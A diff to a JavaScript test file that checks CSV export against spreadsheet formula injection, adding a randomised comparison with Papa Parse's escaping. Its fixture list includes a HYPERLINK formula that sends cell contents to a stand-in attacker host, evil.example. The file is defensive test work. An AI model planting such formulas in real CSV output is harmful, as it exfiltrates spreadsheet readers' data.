@@ -1,11 +1,15 @@
 // What is saved as CSV is opened in spreadsheets, which compute whatever looks like a formula: whoever wrote a row, or
 // made the model write one, would have the reader's machine fetch an address with the other cells in it.
 import assert from 'node:assert/strict';
+import { createRequire } from 'node:module';
 import { test } from 'node:test';
 import { parseRows } from 'shotglass/data';
 import { evaluate, toCsv } from 'shotglass/experiments';
 import { formatCsv } from 'shotglass/format';
+import { seeded } from '../support/seeded.mjs';
 import { fakeModel, resultOf, sentiment } from './experiments-fake.mjs';
+
+const Papa = createRequire(new URL('../../pkg/package.json', import.meta.url))('papaparse');
 
 const formulas = [
   '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -41,6 +45,26 @@ test('numbers stay numbers, also where they are texts', () => {
 
 test('texts in which such a character stands later are as they were', () => {
   assert.equal(formatCsv([['a=1', 'x-y', "'quoted'", ' =1']]), 'a=1,x-y,\'quoted\'," =1"\r\n');
+});
+
+test('the fields are those that the writer of Papa Parse would write', () => {
+  const random = seeded(7);
+  const pick = (list) => list[Math.floor(random() * list.length)];
+  const parts = [...'=+-@＝\t\r\n",;\' .e19', '12', 'ab', '\u2028', '😀', '\ufeff'];
+  const text = () => Array.from({ length: Math.floor(random() * 5) }, () => pick(parts)).join('');
+  const field = () => (random() < 0.2 ? (random() - 0.5) * 10 ** pick([-9, 0, 22]) : text());
+  // A number is no formula, whatever it begins with.
+  const formula = /^(?![+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$)[=+\-@\t\r\n＝＋－＠]/i;
+  const read = (csv) => Papa.parse(csv, { delimiter: ',', newline: '\r\n' }).data;
+  for (let i = 0; i < 5_000; i++) {
+    // What a file begins with may be a byte order mark, which readers drop.
+    const rows = Array.from({ length: 2 }, () => ['x', field(), field(), field()]);
+    for (const escapeFormulae of [formula, false]) {
+      const ours = formatCsv(rows, { exact: !escapeFormulae });
+      const theirs = Papa.unparse(rows, { newline: '\r\n', escapeFormulae });
+      assert.deepEqual(read(ours), read(`${theirs}\r\n`), JSON.stringify(rows));
+    }
+  }
 });
 
 test('an evaluation on hostile rows is safe in a spreadsheet, and exact for a program', async () => {
